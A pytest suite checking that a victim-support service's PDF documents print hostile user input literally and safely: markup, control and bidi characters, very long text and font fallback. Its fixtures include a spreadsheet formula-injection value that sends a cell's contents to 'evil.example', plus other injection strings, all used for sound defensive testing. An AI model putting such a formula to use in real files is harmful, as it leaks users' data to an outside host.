"""Whatever a user typed, every document renders, and markup in it prints literally."""

from __future__ import annotations

import dataclasses
import unicodedata
from datetime import date, datetime
from pathlib import Path

import pytest

from helpers.pdf_probe import decode_qr_codes, page_texts, reader, squeezed, text_of
from onestop_desk.domain.statistics_suppression import (
    PublishedReport,
    PublishedRow,
    PublishedTable,
)
from onestop_desk.reports import (
    render_case_summary,
    render_consent_form,
    render_packet,
    render_referral_letter,
    render_take_home,
    samples,
)
from onestop_desk.reports._text import markup, plain, unprintable
from onestop_desk.reports.monthly_report import render_monthly_report
from onestop_desk.reports.recovery_sheet import render_recovery_sheet

MARKUP = '<b>&amp;</b><font color="red">빨강</font>&<br/>'
LONG_WORD = "가나다라마바사아자차" * 50  # 500 characters, no space to break at
LONG_WORDS = " ".join(["홍길동"] * 170)  # ~500 characters of short words
EMOJI = "김하늘 👩‍👩‍👧😀🏳️‍🌈"
RTL = "مرحبا بالعالم שלום"
CONTROL = "제어\x00문자\x07입니다\x1b[31m\x7f\x85끝\u202e뒤집기\ud800"
HOSTILE = (MARKUP, LONG_WORD, LONG_WORDS, EMOJI, RTL, CONTROL)


def _letter_with(value: str) -> samples.ReferralLetter:
    base = samples.letter(samples.agencies()[0], 3)
    person = dataclasses.replace(
        base.person, name=value, safe_contact=value, address=value, guardian=value
    )
    case = dataclasses.replace(base.case, crime_types=(value, "스토킹"), sensitive_facts=value)
    agency = dataclasses.replace(base.agency, name=value, department=value)
    consent = dataclasses.replace(base.consent, items=(value,), method=value)
    return dataclasses.replace(
        base,
        person=person,
        case=case,
        agency=agency,
        consent=consent,
        reason=value,
        needs=(value,),
        requested_services=(value,),
        support_received=(value,),
        attachments=(value,),
        counselor_name=value,
        printed_by=value,
    )


@pytest.mark.parametrize(
    "value", HOSTILE, ids=["markup", "long-word", "long-words", "emoji", "rtl", "control"]
)
def test_every_document_renders_hostile_text(value: str) -> None:
    letter = _letter_with(value)
    sheet = samples.take_home()
    stop = dataclasses.replace(
        sheet.stops[0], agency_name=value, purpose=value, what_to_bring=(value,)
    )
    sheet = dataclasses.replace(sheet, recipient_name=value, stops=(stop,), counselor_name=value)
    form = dataclasses.replace(samples.consent_form(), person_name=value)
    entry = dataclasses.replace(form.entries[0], agency_name=value, items=(value,), purpose=value)
    form = dataclasses.replace(form, entries=(entry,))
    summary = dataclasses.replace(samples.case_summary(), person=letter.person, case=letter.case)

    for pdf in (
        render_referral_letter(letter),
        render_take_home(sheet),
        render_consent_form(form),
        render_case_summary(summary),
        render_packet(sheet, [letter], form),
    ):
        assert pdf.startswith(b"%PDF") and page_texts(pdf)


def test_markup_characters_print_literally() -> None:
    text = squeezed(text_of(render_referral_letter(_letter_with(MARKUP))))
    assert '<b>&amp;</b><fontcolor="red">빨강</font>&<br/>' in text


def test_control_characters_are_dropped_and_the_rest_kept() -> None:
    text = text_of(render_referral_letter(_letter_with(CONTROL)))
    assert "제어문자입니다[31m끝뒤집기" in squeezed(text)
    for char in ("\x00", "\x07", "\x1b", "\x7f", "\u202e"):
        assert char not in text


def test_a_500_character_name_wraps_instead_of_running_off_the_page(tmp_path: Path) -> None:
    letter = _letter_with(LONG_WORD)
    text = squeezed(text_of(render_referral_letter(letter)))
    # Broken over lines, but every character is on the page.
    assert text.count(LONG_WORD[:40]) >= 1
    assert text.count("가") >= 500


def test_very_long_free_text_flows_over_pages() -> None:
    base = samples.letter(samples.agencies()[0], 4)
    story = " ".join(f"문장{i:04d}입니다." for i in range(2500))
    facts = " ".join(f"사실{i:04d}" for i in range(1500))
    case = dataclasses.replace(base.case, sensitive_facts=facts)
    pages = page_texts(render_referral_letter(dataclasses.replace(base, reason=story, case=case)))
    assert len(pages) > 8
    text = squeezed("".join(pages))
    assert "문장2499입니다." in text and "사실1499" in text
    assert f"{len(pages)}/{len(pages)}" in squeezed(pages[-1])


def test_document_number_with_markup_is_printed_and_encoded_exactly(tmp_path: Path) -> None:
    number = "A<&>'\"-17"
    letter = dataclasses.replace(samples.letter(samples.agencies()[0]), document_number=number)
    pdf = render_referral_letter(letter)
    pages = page_texts(pdf)
    assert number in pages[-1]
    assert decode_qr_codes(pdf, len(pages), tmp_path) == [number]


def test_text_helpers() -> None:
    assert markup("a<b>&c\nd") == "a&lt;b&gt;&amp;c<br/>d"
    assert markup("  \n ") == "-"
    assert plain("a\r\nb\rc\u2028d\te") == "a\nb\nc\nd e"
    assert plain("x\x00\x08\x0e\x1f\x7f\x9f\u200f\u2066\ufeffy") == "xy"


# --- every field of every document ----------------------------------------------------------

# What a paste or a hostile user puts in a field, by kind.
EVERY_KIND = {
    "nul": "널\x00문자",
    "controls": "벨\x07이스케이프\x1b[31m삭제\x7f탭\t수직탭\x0b끝",
    "bidi-override": "\u202e뒤집힌 이름\u202c 다음",
    "zero-width": "홍\u200b길\u200d동\ufeff",
    "combining-jamo": unicodedata.normalize("NFD", "홍길동 한글"),
    "markup": "<b>&amp;</b> <para> </font>",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"보기")',
    "plus": "+1",
    "minus": "-2",
    "at": "@SUM(A1:A9)",
    "tab-formula": "\t=1+1",
    "cr-formula": "\r=1+1",
    "backslash": "C:\\Users\\김하늘\\문서 \\\\server\\share",
    "emoji-and-symbols": "김😀 ☎ ✓ ❤ ½ → ①",
    "unprintable": "สวัสดี ᄒᆞᆫ 𓀀",
    "lone-surrogate": "반쪽\ud83d이모지",
    "5000-chars": "가나다라마 바사아자차 " * 417,  # pasted prose, 5,004 characters
}
UNBROKEN = "가나다라마바사아자차" * 500  # 5,000 characters, nowhere to break
_KEEP = {"urgency", "code", "document_number"}  # structure, not text: checked elsewhere


def _fill(record: object, value: str) -> object:
    """``record`` with every text field (nested records and tuples too) set to ``value``."""
    changes: dict[str, object] = {}
    for item in dataclasses.fields(record):  # type: ignore[arg-type]
        current = getattr(record, item.name)
        if item.name in _KEEP:
            continue
        if isinstance(current, str) or (current is None and "str" in str(item.type)):
            changes[item.name] = value
        elif dataclasses.is_dataclass(current):
            changes[item.name] = _fill(current, value)
        elif isinstance(current, tuple) and current and isinstance(current[0], str):
            changes[item.name] = (value, value)
        elif isinstance(current, tuple) and current and dataclasses.is_dataclass(current[0]):
            changes[item.name] = tuple(_fill(entry, value) for entry in current)
    return dataclasses.replace(record, **changes)  # type: ignore[type-var]


def _published(value: str) -> PublishedReport:
    """Statistics whose row labels (agency and crime-type names people typed) are ``value``;
    titles, units and notes are the program's own words."""
    rows = tuple(PublishedRow(label=f"{value}{i}", value=n) for i, n in enumerate((7, "<5", 12)))
    table = PublishedTable(key="agency", title="기관별 연계", unit="건", rows=rows, total=23)
    day = date(2026, 11, 1)
    return PublishedReport(day, day, day, table, (table,))


def _documents(value: str, *, packet: bool = True) -> dict[str, bytes]:
    """Every document with ``value`` in every text field (``packet=False``: without the
    packet, which only binds the letter, sheet and form rendered here anyway)."""
    letter = _fill(samples.letter(samples.agencies()[0], 3), value)
    sheet = _fill(samples.take_home(), value)
    form = _fill(samples.consent_form(), value)
    summary = _fill(samples.case_summary(), value)
    printed_at = datetime(2026, 11, 25, 10, 30)
    return {
        "letter": render_referral_letter(letter),
        "take_home": render_take_home(sheet),
        "consent_form": render_consent_form(form),
        "case_summary": render_case_summary(summary),
        **({"packet": render_packet(sheet, [letter], form)} if packet else {}),
        "monthly_report": render_monthly_report(
            _published(value), printed_by=value, printed_at=printed_at
        ),
        "recovery_sheet": render_recovery_sheet(
            center_name=value,
            recovery_key="ABCDE-FGHJK-MNPQR-STVWX-YZ234-56789",
            administrator=value,
            created_at=printed_at,
        ),
    }


@pytest.mark.parametrize("kind", list(EVERY_KIND))
def test_every_field_of_every_document_prints_hostile_text_as_typed(kind: str) -> None:
    value = EVERY_KIND[kind]
    expected = squeezed(plain(value))
    # 5,000 characters in every field make documents of a hundred pages: once is enough.
    for name, pdf in _documents(value, packet=kind != "5000-chars").items():
        text = text_of(pdf)
        for char in ("\x00", "\x07", "\x1b", "\u202e", "\u200b", "\ufeff"):
            assert char not in text, (name, char)
        if kind == "5000-chars":
            # Broken over lines and pages, but every character is on paper.
            assert all(text.count(s) >= 417 for s in "나다라마바사아자차"), name
        else:
            assert expected in squeezed(text), (name, expected)


def test_a_5000_character_word_in_a_field_of_each_document_is_all_on_paper() -> None:
    """One unbroken 5,000-character value per document, in the field most likely to get a
    paste (every field at once runs reportlab's word splitting for minutes)."""
    letter = samples.letter(samples.agencies()[0], 3)
    letter = dataclasses.replace(
        letter, person=dataclasses.replace(letter.person, address=UNBROKEN)
    )
    sheet = samples.take_home()
    sheet = dataclasses.replace(
        sheet, stops=(dataclasses.replace(sheet.stops[0], purpose=UNBROKEN), *sheet.stops[1:])
    )
    form = dataclasses.replace(samples.consent_form(), person_name=UNBROKEN)
    summary = samples.case_summary()
    summary = dataclasses.replace(
        summary, case=dataclasses.replace(summary.case, sensitive_facts=UNBROKEN)
    )
    printed_at = datetime(2026, 11, 25, 10, 30)
    for pdf in (
        render_referral_letter(letter),
        render_take_home(sheet),
        render_consent_form(form),
        render_case_summary(summary),
        render_monthly_report(_published(UNBROKEN), printed_by="관리자", printed_at=printed_at),
        render_recovery_sheet(
            center_name=UNBROKEN,
            recovery_key="ABCDE-FGHJK-MNPQR-STVWX-YZ234-56789",
            administrator="관리자",
            created_at=printed_at,
        ),
    ):
        text = text_of(pdf)
        assert all(text.count(s) >= 500 for s in "나다라마바사아자차")


def test_what_prints_is_what_was_typed_or_a_visible_replacement() -> None:
    assert plain("C:\\Users") == "C:\\Users"
    assert plain(unicodedata.normalize("NFD", "한글")) == "한글"
    assert plain("김😀☎") == "김😀☎"
    assert plain("สวัสดี") == "\ufffd" * 6  # no bundled font has Thai
    assert plain("반쪽\ud83d") == "반쪽\ufffd"
    assert plain("홍\u200d길\u200b동\ufe0f") == "홍길동"
    assert unprintable("สวัสดี 김😀 ᄒᆞᆫ\\") == "สวัดีᆞ"
    assert unprintable("홍길동 C:\\temp ☎") == ""


def _fonts_drawing(pdf: bytes, char: str) -> set[str]:
    """The fonts the text runs containing ``char`` are drawn in."""
    fonts: set[str] = set()

    def visit(text, _cm, _tm, font, _size):  # type: ignore[no-untyped-def]
        if char in text and font is not None:
            fonts.add(str(font.get("/BaseFont", "")))

    for page in reader(pdf).pages:
        page.extract_text(visitor_text=visit)
    return fonts


def test_a_backslash_is_drawn_as_a_backslash_not_as_the_won_sign() -> None:
    letter = _fill(samples.letter(samples.agencies()[0], 3), "C:\\Users\\김하늘")
    pdf = render_referral_letter(letter)
    drawn = _fonts_drawing(pdf, "\\")
    # NanumGothic's glyph for U+005C is ₩; every backslash comes from DejaVu Sans.
    assert drawn and all("DejaVuSans" in font for font in drawn), drawn
    assert all("Nanum" in font for font in _fonts_drawing(pdf, "김"))


def test_emoji_come_from_the_fallback_font_and_extract_as_themselves() -> None:
    pdf = render_take_home(_fill(samples.take_home(), "김하늘 😀"))
    assert "김하늘😀" in squeezed(text_of(pdf))
    assert any("DejaVuSans" in font for font in _fonts_drawing(pdf, "😀"))


def test_documents_without_fallback_characters_embed_only_nanum() -> None:
    pdf = render_referral_letter(samples.letter(samples.agencies()[0], 3))
    names: set[str] = set()
    for page in reader(pdf).pages:
        for ref in page["/Resources"]["/Font"].values():
            names.add(str(ref.get_object()["/BaseFont"]))
    assert names and all("Nanum" in name for name in names), names
